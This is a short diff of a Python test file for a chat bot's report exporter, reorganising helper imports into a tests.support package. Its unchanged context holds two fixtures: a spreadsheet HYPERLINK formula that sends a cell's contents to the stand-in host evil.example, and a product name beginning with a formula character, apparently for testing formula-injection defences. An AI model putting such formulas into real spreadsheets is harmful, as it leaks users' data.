@@ -16,10 +16,10 @@ from bot.cli.commands import main
 from bot.cli.report import write_report
 from bot.settings import Settings
 from storage.models import ChatAccount
-from tests.fakes import Chat
-from tests.seed import add_application, add_producer, invite
-from tests.test_events import NOW, add_event
-from tests.test_import_export import HEADER
+from tests.support.events import NOW, add_event
+from tests.support.fakes import Chat
+from tests.support.lists import HEADER
+from tests.support.seed import add_application, add_producer, invite
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm để xem")'
 PRODUCT = "+SUM(1;2) Cà phê"
